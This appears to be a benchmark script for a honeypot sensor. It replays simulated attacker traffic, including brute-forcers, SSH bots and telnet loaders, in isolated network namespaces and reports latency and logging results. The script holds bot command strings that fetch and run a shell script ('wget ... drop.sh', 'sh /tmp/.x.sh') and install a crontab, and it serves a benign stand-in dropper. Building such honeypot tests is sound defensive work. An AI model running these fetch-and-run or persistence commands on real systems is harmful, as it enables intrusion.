#!/bin/bash
# A compressed internet day (issue 16): RATE new sources a minute for
# MINUTES against the sensor on its defaults (pool 4, max_guests "auto"),
# driven by real clients (bench/internet/traffic.py: Python banner grabs,
# hydra, OpenSSH bots with a download, returning bots, a telnet loader,
# silent connections). Then, as the baseline in the same invocation, the
# same traffic straight at one idle guest (no portal, no pool).
# Prints per class: served, banner latency p50/p99 (and the ratio to the
# baseline); for bots, logged in and every command in the store; overall:
# boots, guests returned to the pool, made dormant, woken, resets, CPU and
# memory. Runs in its own namespaces (sources from the benchmarking range
# 198.18.0.0/15, RFC 2544) and removes all it made.
# Usage: bench/internet/run.sh OYSTER_BINARY [RATE] [MINUTES] [BASELINE_MINUTES]
# (BENCH_KEEP=DIR keeps the sensor's events and the clients' results there.)
set -euo pipefail
OYSTER="$(realpath "${1:?usage: bench/internet/run.sh OYSTER_BINARY [RATE] [MINUTES] [BASELINE_MINUTES]}")"
RATE="${2:-30}"
MINUTES="${3:-10}"
BASELINE_MINUTES="${4:-$MINUTES}"
HERE="$(cd "$(dirname "$0")" && pwd)"
source "$HERE/../../tests/integration/lib.sh"
PORTAL=203.0.113.1
EXTRA_CONFIG="[sensor]
listen_address = \"$PORTAL\"
ports = [\"22:22\", \"23:23\"]"
world_up
EVENTS="$STATE_DIR/sensor/events.jsonl"
DB="$STATE_DIR/store.sqlite"

python3 "$HERE/traffic.py" plan --rate "$RATE" --minutes "$MINUTES" >"$WORK/plan.json"
python3 "$HERE/traffic.py" plan --rate "$RATE" --minutes "$BASELINE_MINUTES" >"$WORK/plan-baseline.json"
# Every source on the attacker's link; the sensor routes the range back.
jq -r '.arrivals[].source' "$WORK/plan.json" "$WORK/plan-baseline.json" | sort -u |
	sed "s|.*|addr add &/32 dev ${tag}va|" >"$WORK/addrs.batch"
ip -n "$NS_ATTACKER" -batch "$WORK/addrs.batch"
ip -n "$NS_SENSOR" route add 198.18.0.0/15 via "$ATTACKER_IP"
# hydra cannot bind: each brute-forcer runs under a uid of its own, which
# the attacker's namespace SNATs to its source address.
{
	echo "table ip benchsnat {"
	echo "  chain post { type nat hook postrouting priority srcnat;"
	jq -r '.arrivals[] | select(.class=="brute") | "    meta skuid \(.uid) snat to \(.source)"' \
		"$WORK/plan.json" "$WORK/plan-baseline.json" | sort -u
	echo "  }"
	echo "}"
} >"$WORK/snat.nft"
ip netns exec "$NS_ATTACKER" nft -f "$WORK/snat.nft"
printf '%s\n' 'admin' 'password' 'root123' >"$WORK/passwords.txt"
mkdir -m 0777 "$WORK/hydra"
chmod 0644 "$WORK/passwords.txt"
# The dropper the bots fetch, from the test world's web server.
mkdir -p "$WORK/www"
printf '#!/bin/sh\necho dropped > /tmp/.dropped\nuname -m\n' >"$WORK/www/drop.sh"
ip netns exec "$NS_INTERNET" python3 -m http.server --bind "$WEB_IP" --directory "$WORK/www" 80 >"$WORK/web.log" 2>&1 &

cpu_busy() { awk '/^cpu /{print $2+$3+$4+$7+$8, $2+$3+$4+$5+$6+$7+$8}' /proc/stat; }
mem_sampler() {  # prints the lowest MemAvailable (KiB) seen until killed
	local low=999999999
	trap 'echo $low; exit 0' TERM
	while :; do
		local a
		a=$(awk '/^MemAvailable/{print $2}' /proc/meminfo)
		[ "$a" -lt "$low" ] && low=$a
		sleep 2 &
		wait $!
	done
}
play() {  # plan target out
	ip netns exec "$NS_ATTACKER" python3 "$HERE/traffic.py" run "$1" --target "$2" --out "$3" --web "$WEB_IP" \
		--password "$ROOT_PASSWORD" --passwords "$WORK/passwords.txt" --workdir "$WORK/hydra"
}

# --- the sensor, on its defaults
start_sensor
wait_for 300 'select(.type=="sensor_started")' "the sensor"
pool=$(events | jq -r 'select(.type=="sensor_started") | .pool_size')
until [ "$(events | jq -c 'select(.type=="guest_ready")' | wc -l)" -ge "$pool" ]; do sleep 1; done
echo "== sensor: max_guests $(events | jq -r 'select(.type=="sensor_started") | .max_guests_why'), pool $pool"
echo "== playing $(jq '.arrivals | length' "$WORK/plan.json") arrivals ($RATE new sources a minute for $MINUTES minutes)"
mem_total=$(awk '/^MemTotal/{print $2}' /proc/meminfo)
mem_sampler >"$WORK/mem.txt" &
sampler=$!
read -r busy0 all0 < <(cpu_busy)
t0=$SECONDS
play "$WORK/plan.json" "$PORTAL" "$WORK/sensor-results.jsonl"
read -r busy1 all1 < <(cpu_busy)
elapsed=$((SECONDS - t0))
kill -TERM $sampler
wait $sampler || true
kill -TERM "$SENSOR_PID"
wait "$SENSOR_PID" || true
sensor_oyster store sync >/dev/null
echo "   played in $elapsed s; host CPU busy $(awk -v b=$((busy1 - busy0)) -v a=$((all1 - all0)) 'BEGIN{printf "%.0f %%", 100*b/a}') of 2 cores; lowest free memory $(($(cat "$WORK/mem.txt") / 1024)) of $((mem_total / 1024)) MiB"

# --- the baseline: the same traffic straight at one idle guest
gjson=$(sensor_oyster guest start --json 2>>"$WORK/baseline.log") || fail "baseline guest did not start"
gip=$(echo "$gjson" | jq -r .guest_ip)
gid=$(echo "$gjson" | jq -r .id)
echo "== baseline: $(jq '.arrivals | length' "$WORK/plan-baseline.json") arrivals straight at one guest ($gip)"
play "$WORK/plan-baseline.json" "$gip" "$WORK/baseline-results.jsonl"
sensor_oyster guest stop "$gid" >/dev/null 2>&1 || true

# --- the report
python3 - "$WORK/sensor-results.jsonl" "$WORK/baseline-results.jsonl" "$EVENTS" "$DB" <<'PY'
import json, sqlite3, sys
def load(p):
    return [json.loads(l) for l in open(p)]
res, base = load(sys.argv[1]), load(sys.argv[2])
events = [json.loads(l) for l in open(sys.argv[3])]
db = sqlite3.connect(sys.argv[4])
def pct(v, q):
    v = sorted(v)
    return v[min(len(v) - 1, int(round(q * (len(v) - 1))))] if v else None
def lat(rows):
    v = [r["banner_ms"] for r in rows if r.get("banner_ms") is not None]
    return v
print(f"{'class':9} {'n':>4} {'served':>7} {'p50 ms':>8} {'p99 ms':>8} {'base p50':>9} {'base p99':>9} {'p99 ratio':>9}")
for cls in ("scan", "brute", "loader", "silent"):
    rows = [r for r in res if r["class"] == cls]
    b = lat([r for r in base if r["class"] == cls])
    v = lat(rows)
    if not rows:
        continue
    p50, p99, b50, b99 = pct(v, .5), pct(v, .99), pct(b, .5), pct(b, .99)
    ratio = f"{p99 / b99:.2f}" if p99 and b99 else "-"
    print(f"{cls:9} {len(rows):4} {100 * len(v) / len(rows):6.1f}% {p50 or 0:8.0f} {p99 or 0:8.0f} {b50 or 0:9.0f} {b99 or 0:9.0f} {ratio:>9}")
sb = [r for r in res if r["class"] in ("scan", "brute")]
print(f"banner grabs and brute-forcers with a banner: {sum(r.get('banner_ms') is not None for r in sb)} of {len(sb)}"
      f" ({100 * sum(r.get('banner_ms') is not None for r in sb) / max(1, len(sb)):.1f} %); p99 {pct(lat(sb), .99)} ms")
br = [r for r in res if r["class"] == "brute"]
print(f"hydra runs completed: {sum(bool(r.get('hydra_completed')) for r in br)} of {len(br)}")
bots = [r for r in res if r["class"] in ("bot", "returner")]
in_store = 0
for r in bots:
    have = {row[0] for row in db.execute("SELECT command_line FROM commands WHERE source_ip = ?", (r["source"],))}
    want = {"uname -a", "wget -q -O .x.sh http://198.51.100.80/drop.sh", "sh /tmp/.x.sh", "crontab -"}
    r["missing"] = sorted(want - have)
    in_store += r["logged_in"] and not r["missing"]
print(f"bots logged in: {sum(bool(r.get('logged_in')) for r in bots)} of {len(bots)}; every command in the store: {in_store} of {len(bots)}")
for r in bots:
    if r["missing"] or not r.get("logged_in"):
        print(f"   bot {r['source']}: logged in {r.get('logged_in')}, missing {r['missing']} {r.get('error', '')}")
ret = [r for r in res if r["class"] == "return"]
print(f"returning bots that found their file: {sum(bool(r.get('found_its_file')) for r in ret)} of {len(ret)}")
ld = [r for r in res if r["class"] == "loader"]
print(f"telnet loaders answered by BusyBox: {sum(bool(r.get('busybox_answered')) for r in ld)} of {len(ld)}")
sl = [r for r in res if r["class"] == "silent"]
print(f"silent connections closed after (s): {sorted(r['closed_after_s'] for r in sl if r.get('closed_after_s') is not None)}"
      f" (of which reset for a new source: {sum('reset' in r for r in sl)}); still open at the end: "
      f"{sum(r.get('closed_after_s') is None for r in sl)}")
count = lambda t: sum(e["type"] == t for e in events)
refused = {}
for e in events:
    if e["type"] == "connection_refused":
        refused[e["reason"]] = max(refused.get(e["reason"], 0), e.get("refused_total", 1))
# Why the slow banners were slow: the state of the guest each slow
# source's first connection was given.
first_conn = {}
for e in events:
    if e["type"] == "connection" and e.get("source_ip") not in first_conn:
        first_conn[e["source_ip"]] = e
slow = [r for r in sb + ld if r.get("banner_ms") is not None and r["banner_ms"] > 1000]
why = {}
for r in slow:
    c = first_conn.get(r["source"], {})
    k = f"{c.get('guest_state', '?')}{' (waited for a boot)' if c.get('waits_for_boot') else ''}"
    why[k] = why.get(k, 0) + 1
print(f"banners slower than 1 s: {len(slow)} {why if why else ''}")
sent_off = [e for e in events if e["type"] == "guest_released" and "another source logged in" in e.get("detail", "")]
print(f"sources whose connections were reset by another source's login on a shared guest: {len(sent_off)}")
print(f"guests booted {count('guest_ready')} (cold boots {count('guest_cold_boot')}), sources released {count('guest_released')}, "
      f"reclaimed {count('guest_reclaimed')}, made dormant {count('guest_dormant')}, woken {count('guest_woken')}, "
      f"intrusions {count('intrusion_opened')}, resets {sum(refused.values())} {refused if refused else ''}")
PY
if [ -n "${BENCH_KEEP:-}" ]; then
	mkdir -p "$BENCH_KEEP"
	cp "$EVENTS" "$WORK"/sensor-results.jsonl "$WORK"/baseline-results.jsonl "$BENCH_KEEP"/
	echo "== events and results kept in $BENCH_KEEP"
fi
echo "== done"
